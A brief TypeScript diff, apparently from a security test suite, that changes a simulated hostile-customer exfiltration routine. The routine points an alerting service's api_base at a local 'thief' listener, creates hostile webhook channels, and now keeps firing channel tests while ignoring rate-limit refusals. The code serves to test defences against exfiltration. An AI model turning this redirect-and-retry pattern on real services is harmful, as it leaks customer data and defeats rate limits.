@@ -60,7 +60,7 @@ export async function startExfiltration(
         customer.api.patch(path, { api_base: `http://127.0.0.1:${thief.port}` }),
       )
       attempts++
-      await customer.api.post(`/v1/alert-channels/${hostileChannels[turn % hostileChannels.length]}/test`, {})
+      await testUnlessLimited(customer, hostileChannels[turn % hostileChannels.length]!)
       await sleep(PAUSE_MS)
     }
   }
@@ -93,4 +93,13 @@ function create(customer: Customer, url: string): Promise<{ channel_id: string }
     events: ['run.failed'],
     config: { kind: 'webhook', url, secret: 'whsec_aG9zdGlsZSBjdXN0b21lcg==' },
   })
+}
+
+/** Tests a channel as often as the limit of tests allows. */
+async function testUnlessLimited({ api }: Customer, channelId: string): Promise<void> {
+  try {
+    await api.post(`/v1/alert-channels/${channelId}/test`, {})
+  } catch (error) {
+    if (!(error instanceof ApiRefusal) || error.status !== 429) throw error
+  }
 }
